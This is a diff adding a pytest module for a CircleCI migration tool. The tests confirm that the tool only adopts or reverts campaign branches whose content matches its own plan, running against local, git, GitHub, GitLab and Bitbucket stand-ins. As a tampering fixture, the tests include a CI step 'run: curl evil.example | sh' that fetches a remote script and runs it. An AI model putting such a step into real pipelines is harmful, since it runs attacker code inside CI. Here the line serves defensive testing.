@@ -1,0 +1,224 @@
+"""Branches with the campaign's name and trailer that somebody else made, wherever they are."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from cci_migrate.batch.host import TRAILER
+from cci_migrate.batch.planning import plan_repository
+from cci_migrate.findings import APPLY_ALL
+from cci_migrate.policy import Policy
+from tests.batch.git_server import GitServer
+from tests.batch.github_stand_in import GitHubStandIn, Pull
+from tests.batch.repositories import CONFIG, FIXED, PLAIN, Batch, bare, commit_bare, git
+from tests.batch.rest_stand_ins import BitbucketStandIn, GitLabStandIn, RestStandIn
+
+BRANCH = "cci-migrate/registry-auth"
+EVIL = FIXED.replace(b"      - checkout", b"      - run: curl evil.example | sh")
+pytestmark = pytest.mark.usefixtures("clock")
+
+
+def message() -> str:
+    """What the tool itself would have written on the commit."""
+    digest = plan_repository({CONFIG: PLAIN}, Policy(), APPLY_ALL, {}).digest
+    return f"Authenticate Docker registry pulls in CircleCI\n\n{TRAILER}: {digest}\n"
+
+
+def other_content(folder: Path) -> None:
+    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message(), base="main")
+
+
+def one_file_more(folder: Path) -> None:
+    commit_bare(folder, {CONFIG: FIXED, "more.sh": b"evil\n"}, BRANCH, message(), base="main")
+
+
+def another_mode(folder: Path) -> None:
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(), base="main", mode="100755")
+
+
+def one_commit_more(folder: Path) -> None:
+    commit_bare(folder, {"more.sh": b"evil\n"}, BRANCH, message(), base="main")
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message())
+
+
+def unlike_parent(folder: Path) -> None:
+    """The planned content, and a second commit that takes half of it back."""
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(), base="main")
+    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message())
+
+
+def on_an_orphan(folder: Path) -> None:
+    commit_bare(folder, {CONFIG: PLAIN, "more.sh": b"evil\n"}, BRANCH, message())
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message())
+
+
+def as_planned(folder: Path) -> None:
+    """Whoever made it and whatever the message is."""
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, "By hand", base="main")
+
+
+def as_planned_before_others(folder: Path) -> None:
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(), base="main")
+    commit_bare(folder, {"README": b"later\n"})
+
+
+PLANTED = {
+    plant.__name__: plant
+    for plant in (
+        other_content,
+        one_file_more,
+        another_mode,
+        one_commit_more,
+        unlike_parent,
+        on_an_orphan,
+    )
+}
+OURS = {plant.__name__: plant for plant in (as_planned, as_planned_before_others)}
+
+
+@dataclass
+class Place:
+    """Where repositories are: each by its name, and how they are named and written to."""
+
+    folders: Mapping[str, Path]
+    sources: tuple[object, ...]
+    end: str
+    options: tuple[str, ...] = ()
+    pulls: Callable[[str], int] = lambda _: 0
+    propose: Callable[[str], object] = lambda _: None
+
+
+@pytest.fixture(params=["local", "push", "git", "github", "gitlab", "bitbucket"])
+def place(
+    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[Place]:
+    """A repository for each way to plant a branch."""
+    names = [*PLANTED, *OURS, "proposed"]
+    root = tmp_path / "served"
+    root.mkdir()
+    match request.param:
+        case "local" | "push":
+            folders = {name: bare(root / f"{name}.git", {CONFIG: PLAIN}) for name in names}
+            yield Place(
+                folders,
+                (tmp_path / "checkouts",),
+                "changed",
+                ("--local", "branch" if request.param == "local" else "push"),
+            )
+        case "git":
+            with GitServer.serving(root) as server:
+                folders = {name: bare(root / f"{name}.git", {CONFIG: PLAIN}) for name in names}
+                yield Place(folders, tuple(server.url(f"{n}.git") for n in names), "changed")
+        case "github":
+            with GitHubStandIn.serving(root) as hub:
+                monkeypatch.setenv("GITHUB_API_URL", hub.api)
+                monkeypatch.setenv("GH_TOKEN", hub.token)
+                made = {name: hub.add(f"acme/{name}", {CONFIG: PLAIN}) for name in names}
+
+                def propose(name: str) -> None:
+                    pull = Pull(1, made[name], BRANCH, "main", "", "", False)
+                    made[name].pulls.append(pull)
+
+                yield Place(
+                    {name: one.folder for name, one in made.items()},
+                    ("github:acme",),
+                    "pull-request-open",
+                    pulls=lambda name: len(made[name].pulls),
+                    propose=propose,
+                )
+        case _:
+            kind: type[RestStandIn] = (
+                GitLabStandIn if request.param == "gitlab" else BitbucketStandIn
+            )
+            with kind.serving(root) as host:
+                monkeypatch.setenv("CI_API_V4_URL", host.api)
+                monkeypatch.setenv("BITBUCKET_API_URL", host.api)
+                monkeypatch.setenv(kind.variable, host.token)
+                hosted = {name: host.add(f"acme/{name}", {CONFIG: PLAIN}) for name in names}
+                yield Place(
+                    {name: one.folder for name, one in hosted.items()},
+                    (host.source,),
+                    "pull-request-open",
+                    pulls=lambda name: len(hosted[name].pulls),
+                    propose=lambda name: host.request(hosted[name], BRANCH),
+                )
+                host.silence.set()
+            assert host.faults == []
+
+
+def tips(place: Place) -> dict[str, str]:
+    """The campaign's branch in each repository."""
+    return {
+        name: git(folder, "rev-parse", f"refs/heads/{BRANCH}")
+        for name, folder in place.folders.items()
+    }
+
+
+def test_a_branch_is_ours_only_if_its_content_is(
+    place: Place, tmp_path: Path, batch: Batch
+) -> None:
+    for name, plant in {**PLANTED, **OURS, "proposed": other_content}.items():
+        plant(place.folders[name])
+    place.propose("proposed")
+    if "--local" in place.options:
+        for name, folder in place.folders.items():
+            clone = tmp_path / "checkouts" / name
+            git(tmp_path, "clone", "--quiet", "--branch=main", str(folder), str(clone))
+            if "branch" in place.options:
+                git(clone, "branch", "--quiet", "--no-track", BRANCH, f"origin/{BRANCH}")
+    planted = tips(place)
+    batch("plan", *place.sources, code=1)
+    batch("apply", "--seconds-between", 0, "--canary", 0, *place.options, code=1)
+    expected = dict.fromkeys([*PLANTED, "proposed"], "branch-exists")
+    assert batch.states() == {**expected, **dict.fromkeys(OURS, place.end)}
+    assert tips(place) == planted
+    has_pulls = place.end == "pull-request-open"
+    for name in place.folders:
+        is_open = has_pulls and (name in OURS or name == "proposed")
+        assert place.pulls(name) == int(is_open), name
+    batch("close", code=1)
+    left = {name: tip for name, tip in planted.items() if name not in OURS}
+    if "--local" in place.options:
+        return  # what is closed is the branch of the checkout
+    for name, folder in place.folders.items():
+        there = git(folder, "for-each-ref", "--format=%(objectname)", f"refs/heads/{BRANCH}")
+        assert there == left.get(name, "")
+
+
+@pytest.mark.parametrize("kind", [GitHubStandIn, GitLabStandIn, BitbucketStandIn])
+def test_no_reversal_goes_out_from_a_planted_branch(
+    kind: type[GitHubStandIn | RestStandIn],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    batch: Batch,
+) -> None:
+    root = tmp_path / "served"
+    root.mkdir()
+    with kind.serving(root) as host:
+        for variable in ("GITHUB_API_URL", "CI_API_V4_URL", "BITBUCKET_API_URL"):
+            monkeypatch.setenv(variable, host.api)
+        monkeypatch.setenv(getattr(kind, "variable", "GH_TOKEN"), host.token)
+        repository = host.add("acme/api", {CONFIG: PLAIN})
+        source = getattr(kind, "source", "github:acme")
+        batch("plan", source, code=1)
+        batch("apply", "--seconds-between", 0)
+        git(repository.folder, "update-ref", "refs/heads/main", f"refs/heads/{BRANCH}")
+        back = f"revert-1-{BRANCH}"
+        planted = commit_bare(repository.folder, {CONFIG: EVIL}, back, message(), base="main")
+        if isinstance(repository.pulls[0], Pull):
+            repository.pulls[0].state = "MERGED"
+            repository.pulls.append(Pull(2, repository, back, "main", "", "", False))
+        else:
+            is_gitlab = kind is GitLabStandIn
+            repository.pulls[0]["state"] = "merged" if is_gitlab else "MERGED"
+        pulls = len(repository.pulls)
+        output = batch("revert", code=1).output
+        assert "does not take the change back" in output
+        assert batch.states() == {"api": "pull-request-merged"}
+        assert git(repository.folder, "rev-parse", back) == planted
+        assert len(repository.pulls) == pulls
+        host.silence.set()
